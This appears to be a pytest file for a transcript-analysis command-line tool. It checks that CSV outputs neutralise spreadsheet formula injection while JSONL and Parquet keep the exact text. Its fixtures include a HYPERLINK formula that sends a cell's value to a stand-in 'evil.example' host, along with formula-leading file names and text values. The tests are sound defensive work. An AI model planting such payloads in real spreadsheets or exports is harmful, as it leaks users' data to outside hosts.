"""Spreadsheet formula injection: string cells that a spreadsheet would run as a formula are
written with a leading single quote in every CSV the tool writes (OWASP, "CSV Injection");
Parquet and JSONL keep the exact text, and numbers are never touched."""

from __future__ import annotations

import csv
import json
import re

import pandas as pd
import pytest
from click.testing import CliRunner

from transcript_analyzer.cli import main

from .conftest import write

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_SPEAKER = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TURNS = [
    {"speaker": HOSTILE_SPEAKER, "text": "How has the week been for you, and what helped?"},
    {"speaker": "Sam", "text": "+1-2 is what my landlord owes me, honestly it has been a long, "
                               "long week and I am tired of all of it"},
    {"speaker": HOSTILE_SPEAKER, "text": "@SUM(A1:A9) sounds like a lot to carry."},
    {"speaker": "Sam", "text": "-5"},
    {"speaker": HOSTILE_SPEAKER, "text": "What would help most?"},
    {"speaker": "Sam", "text": "No."},
]


def _run(args):
    return CliRunner().invoke(main, args, catch_exceptions=False)


def _cells(path):
    with open(path, encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _dangerous(cell: str) -> bool:
    """Would a spreadsheet read this cell as a formula? (A plain number is only a number.)"""
    return cell.startswith(TRIGGERS) and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)", cell)


@pytest.fixture()
def hostile_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # relative paths, so sources and ids start with the trigger
    write(tmp_path / "=cmd.json", json.dumps(TURNS))
    write(tmp_path / "@bad.json", "[{")
    return tmp_path


def test_no_csv_output_cell_starts_a_formula(hostile_folder):
    result = _run(["score", "=cmd.json", "@bad.json", "--out", "out", "-j", "1",
                   "--no-progress"])
    assert result.exit_code == 1, result.output
    out = hostile_folder / "out"
    for name in ("utterances", "sessions", "errors", "inputs"):
        cells = _cells(out / f"{name}.csv")
        assert not [c for c in cells if _dangerous(c)], name
    utterances = pd.read_csv(out / "utterances.csv", keep_default_na=False, dtype=str)
    assert set(utterances["transcript_id"]) == {"'=cmd"}
    assert "'" + HOSTILE_SPEAKER in set(utterances["speaker"])
    assert "'+1-2 is what" in utterances["text"].iloc[1][:13]
    assert utterances["text"].iloc[2].startswith("'@SUM")
    assert utterances["text"].iloc[3] == "-5"  # a plain number cannot be a formula
    sessions = pd.read_csv(out / "sessions.csv", keep_default_na=False, dtype=str)
    assert sessions["source"].tolist() == ["'=cmd.json"]
    assert sessions["client_engagement_trend"].iloc[0].startswith("-")  # numbers untouched
    errors = pd.read_csv(out / "errors.csv", keep_default_na=False, dtype=str)
    assert errors["source"].tolist() == ["'@bad.json"]
    assert errors["error"].iloc[0].startswith("'@bad.json")
    inputs = pd.read_csv(out / "inputs.csv", keep_default_na=False, dtype=str)
    assert sorted(inputs["source"]) == ["'=cmd.json", "'@bad.json"]


@pytest.mark.parametrize("fmt", ["jsonl", "parquet"])
def test_jsonl_and_parquet_keep_the_exact_text(hostile_folder, fmt):
    assert _run(["score", "=cmd.json", "--out", "out", "-j", "1", "--format", fmt,
                 "--no-progress"]).exit_code == 0
    path = hostile_folder / "out" / f"utterances.{fmt}"
    table = pd.read_parquet(path) if fmt == "parquet" else pd.read_json(path, lines=True)
    assert set(table["transcript_id"]) == {"=cmd"}
    assert table["speaker"].iloc[0] == HOSTILE_SPEAKER
    assert table["text"].iloc[2].startswith("@SUM")


def test_resume_still_recognises_neutralised_sources(hostile_folder):
    assert _run(["score", "=cmd.json", "--out", "out", "-j", "1",
                 "--no-progress"]).exit_code == 0
    before = (hostile_folder / "out" / "utterances.csv").read_bytes()
    result = _run(["score", "=cmd.json", "--out", "out", "-j", "1", "--resume",
                   "--no-progress"])
    assert result.exit_code == 0 and "1 already scored (kept)" in result.output
    assert (hostile_folder / "out" / "utterances.csv").read_bytes() == before


def test_evaluate_out_csv_is_neutralised(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    rows = [("How are you feeling today?", "trust_building"), ("Just get over it.",
             "barrier_creating"), ("See you Tuesday.", "neutral")] * 4
    pd.DataFrame(rows, columns=["text", "label"]).to_csv(tmp_path / "=2+3.csv", index=False)
    result = _run(["evaluate", "=2+3.csv", "--input-format", "trust", "--out", "report.csv"])
    assert result.exit_code == 0, result.output
    cells = _cells(tmp_path / "report.csv")
    assert "'=2+3.csv" in cells and not [c for c in cells if _dangerous(c)]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@x", "\tx", "\rx", "'=1", "''@a",
                                   "-", "plain", "-5", "+3.5", "'-5", "", "'", "a=b"])
def test_neutralising_is_undone_exactly(value):
    from transcript_analyzer.writers import neutralise_formula, restore_formula

    written = neutralise_formula(value)
    assert restore_formula(written) == value
    assert not _dangerous(written) or written == value
    assert not written.startswith(TRIGGERS) or written in ("+1", "-5", "+3.5")


def test_progress_and_cohort_csv_are_neutralised(tmp_path):
    from transcript_analyzer.growth import METRIC_COLUMNS
    from transcript_analyzer.writers import restore_formula

    people = (HOSTILE_SPEAKER, "-Kai", "@Bo", "Cy")
    rows = [{"transcript_id": f"=s{i}", "source": f"=s{i}.txt", "supporter": who,
             "session_date": f"2026-01-{i + 10}", "cohort": "+spring",
             **{c: 1.0 for c in METRIC_COLUMNS}} for i, who in enumerate(people)]
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "sessions.jsonl").write_text(
        "".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    for _ in range(2):  # the second run replaces the files the first one wrote
        result = _run(["progress", str(tmp_path / "r"), "--out", str(tmp_path / "p"),
                       "--cohort", "cohort", "--period", "session"])
        assert result.exit_code == 0, result.output
    for name in ("progress", "cohort"):
        cells = _cells(tmp_path / "p" / f"{name}.csv")
        assert not [c for c in cells if _dangerous(c)], name
    table = pd.read_csv(tmp_path / "p" / "progress.csv", keep_default_na=False, dtype=str)
    assert sorted(table["supporter"].map(restore_formula)) == sorted(people)
    assert table["period"].str.contains(" =s").all()  # text after the start is left alone
    cohort = pd.read_csv(tmp_path / "p" / "cohort.csv", keep_default_na=False, dtype=str)
    assert cohort["cohort"].tolist() == ["'+spring"]
